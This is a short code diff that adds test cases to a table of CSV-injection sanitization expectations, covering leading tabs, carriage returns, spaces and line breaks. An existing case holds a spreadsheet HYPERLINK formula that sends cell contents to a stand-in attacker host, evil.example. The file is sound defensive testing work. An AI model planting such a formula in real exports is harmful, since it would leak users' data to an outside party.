@@ -179,6 +179,13 @@ CSV_NOTES = {
     "a plus is defused": ("+1", "'+1"),
     "a minus is defused": ("-1", "'-1"),
     "an at sign is defused": ("@SUM(A1)", "'@SUM(A1)"),
+    # OWASP's CSV injection list: a spreadsheet may strip a leading tab or carriage return (B12).
+    "a leading tab is defused": ("\t=1+1", "'\t=1+1"),
+    "a leading carriage return is defused and quoted": ("\r=1+1", '"\'\r=1+1"'),
+    "a tab before text is defused too": ("\tplain", "'\tplain"),
+    "a formula after spaces is defused": ("  =1+1", "'  =1+1"),
+    "a formula after a line break is defused and quoted": ("\n=1+1", '"\'\n=1+1"'),
+    "a minus inside the text is left alone": ("pain 7-8", "pain 7-8"),
     "a formula with a link is defused and quoted": (
         '=HYPERLINK("https://evil.example/?"&A2,"Click")',
         '"\'=HYPERLINK(""https://evil.example/?""&A2,""Click"")"',
